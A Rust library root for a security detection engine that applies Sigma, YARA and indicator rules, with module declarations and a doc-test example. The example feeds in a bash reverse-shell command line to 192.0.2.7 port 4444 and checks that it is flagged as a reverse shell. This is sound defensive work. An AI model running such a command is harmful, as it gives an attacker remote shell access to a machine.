//! The detection engine: Sigma rules on events, YARA rules on file contents, indicators on hashes, names and
//! addresses.
//!
//! Two steps: [`compile`] turns texts into an immutable [`RuleSet`] and says with a stable code what it refused
//! and why; the rule set then evaluates without failing. Nothing here does input or output or starts a thread,
//! and time is an argument; only YARA's time limit and its `time` module read a clock. A rule set may be shared
//! between threads.
//!
//! ```
//! use sg_detect::{Event, Field, LogSource, compile, default_pack};
//!
//! let (rules, diagnostics) = compile(&default_pack());
//! assert!(diagnostics.is_empty());
//!
//! let mut event = Event::new(LogSource::LINUX_PROCESS_CREATION);
//! event
//!     .set(Field::Image, "/usr/bin/bash")
//!     .set(Field::CommandLine, "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1");
//! let matches = rules.evaluate(&event);
//! assert_eq!(matches[0].rule.threat_type, "reverse_shell");
//! println!("{}", matches[0].explanation);
//! ```

pub mod correlation;
mod diagnostic;
mod event;
mod event_json;
mod indicator;
pub mod limits;
pub mod mapping;
mod pack;
mod rule;
mod ruleset;
mod sigma;
mod yara;

pub use diagnostic::{Code, Diagnostic, Effect};
pub use event::{Event, Field, LogSource, Value};
pub use indicator::{FileFacts, Indicator, IndicatorType};
pub use limits::ScanLimits;
pub use pack::default_pack;
pub use rule::{Evidence, ExplainedCheck, ExplainedSelection, Explanation, Match, RuleInfo};
pub use ruleset::{FilterInfo, RuleSet, Weight, compile, compile_with};
/// A rule file: its kind, its name and its text.
pub use sg_types::agent::RuleText as RuleSource;
pub use yara::{FileLabels, ScanReport};

use sha2::{Digest as _, Sha256};

/// Values for the placeholders of Sigma's `expand`, by name without the per cent signs. Values may hold
/// wildcards.
pub type Placeholders = std::collections::BTreeMap<String, Vec<String>>;

/// Every Sigma field modifier that is evaluated.
pub const SIGMA_MODIFIERS: &[&str] = sigma::KNOWN_MODIFIERS;

/// SHA-256 of a content, for [`FileFacts`].
pub fn sha256(content: &[u8]) -> [u8; 32] {
    Sha256::digest(content).into()
}
